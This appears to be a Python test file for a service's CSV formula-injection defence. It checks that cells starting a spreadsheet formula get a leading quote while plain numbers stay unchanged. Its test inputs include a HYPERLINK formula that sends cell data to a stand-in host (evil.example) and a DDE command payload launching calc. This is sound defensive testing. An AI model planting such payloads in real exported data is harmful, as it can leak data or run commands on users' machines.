"""CSV formula injection: every CSV the service writes neutralizes cells a spreadsheet would
evaluate (OWASP's rule), and leaves plain numbers, negative amounts included, as numbers."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aggregator import csv_cells

PACKAGE = Path(csv_cells.__file__).parent


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?"&A1, "Click")', "=1+2", "+1+2", "@SUM(A1:A2)", "\t=1", "\r=1",
    "-1+cmd|' /C calc'!A0", "-2e3", "- 5", "-5,00", "+", "-", "=", "@", "-5.00 ", "-.5", "-5.",
])
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(cell):
    assert csv_cells.neutralize(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5.00", "-15", "+3", "12.50", "0", "Accounting App", "", "a=b", " =1",
                                  "total", 5, -5, None])
def test_plain_numbers_and_other_text_are_written_as_they_are(cell):
    assert csv_cells.neutralize(cell) == cell


@given(st.text())
def test_no_neutralized_cell_starts_a_formula_unless_it_is_a_plain_number(text):
    cell = csv_cells.neutralize(text)
    assert not cell.startswith(csv_cells.FORMULA_STARTS) or re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell)
    assert cell in (text, "'" + text)


def test_the_writer_neutralizes_every_cell_and_reads_back_with_csv():
    out = io.StringIO()
    csv_cells.writer(out, lineterminator="\r\n").writerows([["=1+1", "-5.00", 3, "a,\"b\""]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-5.00", "3", 'a,"b"']]


def test_every_csv_the_service_writes_goes_through_csv_cells():
    writers = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
               if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text()) and path.name != "csv_cells.py"]
    assert writers == [], "write CSV with aggregator.csv_cells.writer, which neutralizes formulas"
